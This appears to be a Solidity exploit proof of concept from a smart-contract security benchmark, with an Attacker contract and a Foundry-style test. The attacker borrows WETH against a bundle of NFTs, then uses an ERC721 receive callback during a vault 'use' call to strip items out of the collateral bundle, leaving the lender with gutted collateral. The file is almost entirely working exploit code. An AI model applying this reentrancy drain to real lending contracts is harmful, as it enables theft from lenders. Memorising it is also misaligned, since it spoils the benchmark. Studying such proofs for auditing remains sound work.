// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

// assay-canary-c27d9b80-41e6-4a35-9f1d-6b0e83d25c74
import "../Base.sol";

contract Attacker is IItemUser {
    Bundles private bundles;
    CollateralVault private vault;
    uint256 public bundle;
    uint256 public loan;

    constructor(Bundles bundles_, CollateralVault vault_) {
        (bundles, vault) = (bundles_, vault_);
    }

    function wrap(Mint pebble, Mint chalk) external {
        Item[] memory parts = new Item[](3);
        (parts[0], parts[1], parts[2]) = (Item(address(chalk), 21), Item(address(pebble), 21), Item(address(pebble), 22));
        pebble.setApprovalForAll(address(bundles), true);
        chalk.setApprovalForAll(address(bundles), true);
        bundle = bundles.wrap(parts);
        bundles.setApprovalForAll(address(vault), true);
    }

    function borrow(LoanDesk desk, Offer calldata o, bytes calldata signature, address to) external {
        loan = desk.accept(o, signature, bundle, new bytes32[](0));
        Weth(o.currency).transfer(to, Weth(o.currency).balanceOf(address(this)));
    }

    function run() external {
        vault.use(loan, this, "");
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        bundles.takeLast(bundle, address(this));
        bundles.takeLast(bundle, address(this));
        return this.onERC721Received.selector;
    }

    function onUse(uint256, Item calldata, address, bytes calldata) external {
        bundles.transferFrom(address(this), address(vault), bundle);
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private bundle;
    bytes32 private content;

    function _start() internal override {
        other = new Attacker(bundles, vault);
        chalk.mint(address(other), 21);
        pebble.mint(address(other), 21);
        pebble.mint(address(other), 22);
        other.wrap(pebble, chalk);
        bundle = other.bundle();
        content = bundles.contentOf(bundle);
        Offer memory o = _offer(cee, address(bundles), 80e18, 1_000, 60 days);
        (o.nonce, o.content) = (20, content);
        other.borrow(desk, o, _signed(o, CEE_KEY), FAR);
    }

    function exploit() public {
        other.run();
    }

    function test_Exploit() public {
        exploit();
        require(!secured() && pebble.ownerOf(22) == address(other), "the bundle is whole");
    }

    /// As long as the bundle is collateral, everything is in it that the lender saw.
    function secured() public view returns (bool) {
        return vault.loanOf(address(bundles), bundle) == 0 || bundles.contentOf(bundle) == content;
    }

    function target() public view override returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
